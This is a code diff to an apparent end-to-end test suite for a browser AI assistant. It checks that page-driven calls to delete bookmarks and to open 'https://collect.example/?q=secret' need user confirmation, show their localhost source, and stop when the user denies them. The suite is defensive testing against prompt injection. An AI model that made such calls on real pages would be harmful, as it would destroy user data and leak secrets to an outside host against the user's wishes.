@@ -25,13 +25,12 @@ describe('a page that asks for something', () => {
       callText('delete_bookmarks', { bookmark_ids: ids }),
       'I left it alone.',
     ]);
-    await say(panel, 'Read the blog');
+    await say(panel, 'What does the blog say?');
     await call(panel, 'read_page', 'done');
     const dialog = await shown(panel, '[data-confirm~="delete_bookmarks"]');
     expect(await dialog.evaluate((element) => element.textContent)).toContain('localhost');
-    expect(
-      await panel.$$eval('[data-confirm] [data-source]', (rows) => rows.map((row) => row.getAttribute('data-source'))),
-    ).toEqual([expect.stringContaining('localhost')]);
+    const row = await shown(panel, '[data-confirm] [data-row][data-source]');
+    expect(await row.evaluate((element) => element.getAttribute('data-source'))).toContain('localhost');
     expect(await panel.$('[data-choice="allow-always"]')).toBeNull();
     await choose(panel, 'deny');
     await answered(panel, 'I left it alone.');
@@ -47,7 +46,7 @@ describe('a page that asks for something', () => {
       callText('open_tabs', { urls: ['https://collect.example/?q=secret'] }),
       'Not opened.',
     ]);
-    await say(panel, 'Read the blog again');
+    await say(panel, 'What did the blog say again?');
     await shown(panel, '[data-confirm~="open_tabs"]');
     expect((await texts(panel, '[data-confirm]'))[0]).toContain('https://collect.example/?q=secret');
     await choose(panel, 'deny');
